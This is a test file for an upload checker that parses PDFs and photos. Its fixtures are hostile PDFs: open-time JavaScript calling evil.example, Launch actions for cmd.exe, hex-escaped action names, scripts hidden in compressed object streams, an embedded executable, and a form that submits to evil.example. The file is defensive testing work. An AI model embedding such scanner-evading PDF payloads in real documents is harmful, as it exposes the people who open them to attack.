import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { checkUpload } from '../../../server/apply/uploadCheck';
import { PLAIN_PDF, heicBytes, jpegBytes, pdfText, pngBytes } from '../../support/uploadFiles';

const ACTIVE = (name: string) => `"${name}" contains content we can't accept for your security. Save it again as a plain PDF or a photo and choose it again.`;
const DAMAGED = (name: string) => `"${name}" looks damaged, so we can't open it. Save it again as a PDF or a photo and choose it again.`;
const LOCKED = (name: string) => `"${name}" is protected with a password, so we can't open it. Save it again without a password, or as a photo, and choose it again.`;
const pdf = (parts: Parameters<typeof pdfText>[0]) => Buffer.from(pdfText(parts), 'latin1');

/** A one-page PDF written by pdf-lib, optionally with a script that runs when it opens, optionally saved with its objects in compressed object streams. */
async function pdfLibFile({ script = false, useObjectStreams = false } = {}): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText('Payslip, October', { x: 20, y: 150, font: await doc.embedFont(StandardFonts.Helvetica) });
  if (script) {
    const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.launchURL("https://evil.example")') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  }
  return Buffer.from(await doc.save({ useObjectStreams }));
}

describe('checkUpload reads a PDF with a parser (pdf-lib) instead of searching its bytes', () => {
  it('accepts plain PDFs: written by pdf-lib (with and without object streams) and the smallest one by hand', async () => {
    for (const bytes of [await pdfLibFile(), await pdfLibFile({ useObjectStreams: true }), PLAIN_PDF]) {
      expect(await checkUpload(bytes, 'payslip.pdf')).toEqual({ ok: true, mediaType: 'application/pdf', sizeBytes: bytes.length });
    }
  });

  it('refuses a script that runs when the document opens, also when it sits in a compressed object stream the old text search never saw', async () => {
    expect(await checkUpload(await pdfLibFile({ script: true }), 'invoice.pdf')).toEqual({ ok: false, status: 422, message: ACTIVE('invoice.pdf') });
    const hidden = await pdfLibFile({ script: true, useObjectStreams: true });
    expect(hidden.toString('latin1')).not.toMatch(/JavaScript|\/JS\b/);
    expect(await checkUpload(hidden, 'invoice.pdf')).toEqual({ ok: false, status: 422, message: ACTIVE('invoice.pdf') });
  });

  it('refuses names written with #xx escapes, in upper- and lower-case hex', async () => {
    const escaped = [
      { catalog: '/OpenAction 4 0 R ', objects: '4 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj\n' },
      { catalog: '/OpenAction 4 0 R ', objects: '4 0 obj << /S /L#61unch /F (cmd.exe) >> endobj\n' },
      { catalog: '/OpenAction << /S /#4a#61v#61Script /#4a#53 (app.alert(1)) >> ' },
      { catalog: '/OpenAction << /S /#4c#61unch /F (cmd.exe) >> ' },
    ];
    for (const parts of escaped) {
      const bytes = pdf(parts);
      expect(bytes.toString('latin1')).not.toMatch(/JavaScript|Launch|\/JS\b/);
      expect(await checkUpload(bytes, 'letter.pdf')).toEqual({ ok: false, status: 422, message: ACTIVE('letter.pdf') });
    }
  });

  it.each([
    ['a document-level script in /AA', { catalog: '/AA << /WC << /S /JavaScript /JS (x) >> >> ' }],
    ['a page action that launches a program', { objects: '4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >> endobj\n' }],
    ['an attached file', {
      catalog: '/Names << /EmbeddedFiles 4 0 R >> ',
      objects: '4 0 obj << /Names [(run.exe) 5 0 R] >> endobj\n5 0 obj << /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >> endobj\n'
        + '6 0 obj << /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n',
    }],
    ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >> ', objects: '4 0 obj << /Length 5 >>\nstream\n<xdp>\nendstream\nendobj\n' }],
    ['a form that submits itself', { catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >> ' }],
    ['a form that imports data', { catalog: '/OpenAction << /S /ImportData /F (data.fdf) >> ' }],
    ['a jump into an embedded document', { catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >> ' }],
    ['rich media (Flash)', { objects: '4 0 obj << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >> endobj\n' }],
    ['a script in an older revision of an object that a later copy replaces', {
      catalog: '/OpenAction 4 0 R ', objects: '4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n4 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj\n',
    }],
  ])('refuses %s', async (_feature, parts) => {
    expect(await checkUpload(pdf(parts), 'form.pdf')).toEqual({ ok: false, status: 422, message: ACTIVE('form.pdf') });
  });

  it('refuses an encrypted PDF: what is inside cannot be read, so it cannot be judged', async () => {
    const locked = pdf({ trailer: '/Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] ', objects: '4 0 obj << /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <' + 'ab'.repeat(32) + '> /U <' + 'cd'.repeat(32) + '> >> endobj\n' });
    expect(await checkUpload(locked, 'statement.pdf')).toEqual({ ok: false, status: 422, message: LOCKED('statement.pdf') });
  });

  it('refuses a PDF the parser cannot read: cut in half, garbage after the header, no pages', async () => {
    const whole = await pdfLibFile();
    const damaged = [
      whole.subarray(0, Math.floor(whole.length / 2)),
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('][ this is not a document } 1 2 <<', 'latin1')]),
      Buffer.from('%PDF-1.4\n%%EOF\n'),
      Buffer.from('%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n'),
      Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    ];
    for (const bytes of damaged) expect(await checkUpload(bytes, 'scan.pdf')).toEqual({ ok: false, status: 422, message: DAMAGED('scan.pdf') });
  });

  it('still refuses the antivirus test file, an empty body and a program renamed .pdf', async () => {
    const eicar = Buffer.from('%PDF-1.4\nX5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*\n');
    expect(await checkUpload(eicar, 'eicar.pdf')).toEqual({ ok: false, status: 422, message: ACTIVE('eicar.pdf') });
    expect(await checkUpload(Buffer.alloc(0), 'empty.pdf')).toMatchObject({ ok: false, status: 400 });
    expect(await checkUpload('text', 'empty.pdf')).toMatchObject({ ok: false, status: 400 });
    expect(await checkUpload(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]), 'payslip.pdf')).toMatchObject({ ok: false, status: 415 });
  });
});

describe('checkUpload decodes a photo instead of trusting its first bytes', () => {
  it('accepts a real PNG, JPEG and HEIC', async () => {
    for (const [bytes, mediaType] of [[pngBytes(), 'image/png'], [jpegBytes(), 'image/jpeg'], [heicBytes(), 'image/heic']] as const) {
      expect(await checkUpload(bytes, 'licence')).toEqual({ ok: true, mediaType, sizeBytes: bytes.length });
    }
  });

  it('refuses a PNG with garbage after its signature, cut short, or with a changed pixel byte', async () => {
    const png = pngBytes();
    const changed = Buffer.from(png);
    const idat = changed.indexOf('IDAT', 0, 'latin1');
    changed[idat + 10] = (changed[idat + 10] ?? 0) ^ 0xff;
    const bad = [Buffer.concat([png.subarray(0, 8), Buffer.alloc(120, 0x41)]), png.subarray(0, png.length - 20), changed];
    for (const bytes of bad) expect(await checkUpload(bytes, 'photo.png')).toEqual({ ok: false, status: 422, message: DAMAGED('photo.png') });
  });

  it('refuses a JPEG with garbage after its first bytes or cut in half', async () => {
    const jpeg = jpegBytes();
    const bad = [Buffer.concat([jpeg.subarray(0, 4), Buffer.alloc(200, 0x07)]), jpeg.subarray(0, Math.floor(jpeg.length / 2))];
    for (const bytes of bad) expect(await checkUpload(bytes, 'photo.jpg')).toEqual({ ok: false, status: 422, message: DAMAGED('photo.jpg') });
  });

  it('refuses a HEIC whose boxes do not add up to the file or that has no picture in it', async () => {
    const heic = heicBytes();
    const ftypOnly = heic.subarray(0, heic.readUInt32BE(0));
    const bad = [
      Buffer.concat([ftypOnly, Buffer.alloc(100, 0x33)]),
      Buffer.concat([heic, Buffer.from('trailing')]),
      heic.subarray(0, heic.length - 10),
      Buffer.from(heic.toString('latin1').replace('hvcC', 'xxxx'), 'latin1'),
    ];
    for (const bytes of bad) expect(await checkUpload(bytes, 'photo.heic')).toEqual({ ok: false, status: 422, message: DAMAGED('photo.heic') });
  });
});
